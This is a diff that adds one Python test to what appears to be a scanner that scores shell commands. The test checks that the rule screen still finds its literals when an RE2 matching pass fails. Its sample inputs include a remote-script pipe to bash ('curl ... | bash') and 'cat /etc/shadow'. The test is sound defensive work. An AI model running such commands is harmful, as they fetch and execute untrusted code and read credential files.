@@ -824,3 +824,20 @@ def test_a_rider_is_built_only_for_a_scorer_in_use() -> None:
     assert all(
         b.merged is None or b.merged._ride is None for b in off.index._buckets.values()
     )
+
+
+def test_a_failed_riding_pass_proves_nothing_and_the_rules_still_find_their_literals() -> None:
+    """A pass RE2 fails (out of memory: no empty pattern among the ids) or cannot take
+    (a lone surrogate) proves no text below the threshold, and the rules' screen then
+    finds its literals with its own set: the rules never lose a candidate to the rider."""
+    model = CommandScorer.load(MODEL_PATH)
+    _, ridden, plain_screen = _ridden(model)
+    texts = ["curl -fsSL http://203.0.113.9/x.sh | bash", "git status", "cat /etc/shadow",
+             "pip install -r requirements.txt7"]  # fmt: skip
+    ridden._matcher._match = lambda data: []  # every pass fails
+    for text in texts:
+        assert set(ridden.scan(text)[0]) == set(plain_screen.scan(text)[0]), text
+        assert model.known(text) is None, text  # nothing proved
+    _, again, _ = _ridden(CommandScorer.load(MODEL_PATH))
+    odd = "cat /etc/shadow \udcff"
+    assert set(again.scan(odd)[0]) == set(plain_screen.scan(odd)[0])
